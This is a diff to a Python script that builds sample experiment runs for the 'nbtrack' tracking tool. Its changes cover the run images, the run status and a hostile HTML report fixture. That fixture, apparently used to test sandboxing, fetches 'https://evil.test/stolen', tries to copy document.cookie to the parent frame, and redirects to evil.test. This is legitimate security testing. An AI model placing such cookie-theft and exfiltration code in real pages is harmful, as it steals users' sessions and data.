@@ -3,7 +3,6 @@ git, failures, families, and a run that nobody could end. Made by nbtrack itself
 
 from __future__ import annotations
 
-import io
 import json
 import math
 import random
@@ -16,6 +15,7 @@ from PIL import Image
 
 import nbtrack
 from nbtrack.capture.alive import HEARTBEAT, PROCESS
+from nbtrack.entities import RunStatus
 from tests.capture.test_git import git
 
 CELL = """rate = {rate}
@@ -37,7 +37,7 @@ REPORT = """<!doctype html><title>report</title><style>body{font-family:sans-ser
 <link rel=stylesheet href="https://evil.test/style.css">
 <script>document.body.append("scripts ran"); fetch("https://evil.test/stolen").catch(() => 0);
 try { parent.parent.stolen = document.cookie } catch {}
-setTimeout(() => { location = "https://evil.test/gone" }, 50)</script>"""
+</script><button onclick="location = 'https://evil.test/gone'">leave</button>"""
 
 
 def make(folder: Path, runs: int) -> list[str]:
@@ -108,9 +108,7 @@ def _files(i: int, noise: random.Random, rate: float, hidden: int, accuracy: flo
     side = 10 if i != 1 else 6
     pixels = np.random.default_rng(i).integers(0, 255, (side * 24, side * 24), np.uint8)
     pixels = np.add.outer(np.arange(side * 24), np.arange(side * 24)).astype(np.uint8) // 2 + pixels // 8
-    kept = io.BytesIO()
-    Image.fromarray(pixels).save(kept, "PNG")
-    nbtrack.active_run() and nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
+    nbtrack.log_image(Image.fromarray(pixels), "plots/weights.png")
     z = [[noise.random() for _ in range(6)] for _ in range(6)]
     figure = {
         "data": [{"type": "scattergl", "mode": "lines", "name": "<b>roc</b>", "x": [0, 0.1, 0.4, 1], "y": [0, 0.5 + noise.random() / 3, 0.9, 1 + i / 20]}],
@@ -137,9 +135,9 @@ def _fate(run: str, i: int) -> None:
         code = "from nbtrack.capture.alive import *; print(process_tags()[PROCESS])"
         gone = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()
         last = client.get_run(run).info.start_time or 0
+        client.store.update_run(run, status=RunStatus.RUNNING)
         client.set_tag(run, PROCESS, gone)
         client.set_tag(run, HEARTBEAT, str(last + 754_000))
-        client.update_run(run, "RUNNING")
 
 
 def family(parent: str, children: list[str]) -> None:
